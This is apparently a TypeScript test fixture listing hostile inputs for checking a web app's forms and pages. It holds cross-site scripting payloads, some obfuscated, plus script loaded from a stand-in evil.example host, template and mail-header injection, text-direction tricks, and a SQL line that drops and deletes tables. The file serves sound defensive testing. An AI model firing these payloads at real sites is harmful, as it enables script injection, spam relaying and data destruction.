/**
 * Hostile input for every form that takes free text and every page that shows it. Any script in it calls
 * `hostile()`, so that browser tests can detect that it ran.
 */
export const hostileContents: Readonly<Record<string, string>> = {
  'script element': '<script>hostile()</script>',
  'script element in odd case': '<ScRiPt >hostile()</sCrIpT >',
  'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'image with a handler': '<img src=x onerror=hostile()>',
  'image with a quoted handler': '<img src="x" onerror="hostile()" alt="x">',
  'drawing with a handler': '<svg onload=hostile()></svg>',
  'drawing with a script': '<svg><script>hostile()</script></svg>',
  'link that runs': '<a href="javascript:hostile()">press me</a>',
  'link that runs, hidden by case and spaces': '<a href=" JaVaScRiPt:hostile()">press me</a>',
  'link that runs, hidden by entities': '<a href="&#106;avascript&colon;hostile()">press me</a>',
  'link that runs, hidden by a tab': '<a href="java\tscript:hostile()">press me</a>',
  'link to data': '<a href="data:text/html,<script>hostile()</script>">press me</a>',
  'link to old script': '<a href="vbscript:hostile()">press me</a>',
  'handler on a paragraph': '<p onclick="hostile()" onmouseover="hostile()">words</p>',
  'handler that needs no touch': '<details open ontoggle=hostile()><summary>x</summary></details>',
  'field that takes the focus': '<input autofocus onfocus=hostile()>',
  frame: '<iframe src="javascript:hostile()" srcdoc="<script>hostile()</script>"></iframe>',
  'embedded object': '<object data="javascript:hostile()"></object><embed src="javascript:hostile()">',
  'form that sends elsewhere': '<form action="javascript:hostile()"><button>Sign in</button></form>',
  'new base and redirect':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:hostile()">',
  'style that hides the page':
    '<style>*{display:none}</style><p style="position:fixed;inset:0;background:url(javascript:hostile())">x</p>',
  'words that close what they stand in': '"\'></p></textarea></title></script><script>hostile()</script>',
  'template language': '{{constructor.constructor("hostile()")()}} #{hostile()} <%= hostile() %>',
  'mathematics that turns into HTML': '<math><mtext></p><img src=x onerror=hostile()></mtext></math>',
  'extra mail headers': 'Hello\r\nBcc: everyone@evil.example\r\nContent-Type: text/html\r\n\r\n<b>Buy</b>',
  'extra headers with other line ends':
    'Hello\u2028Bcc: a@evil.example\u2029Cc: b@evil.example\u0085To: c@evil.example',
  'control characters': 'bell\u0007 null\u0000 escape\u001b[31m back\u0008 delete\u007f',
  'words that read backwards': 'invoice\u202efdp.exe \u2066isolated\u2069 \u200fright to left',
  'half of a character, and accents without end': `\ud800 z${'\u0301'.repeat(200)}`,
  'a statement for the database': "'); drop table contact_messages; delete from blog_posts; --",
};
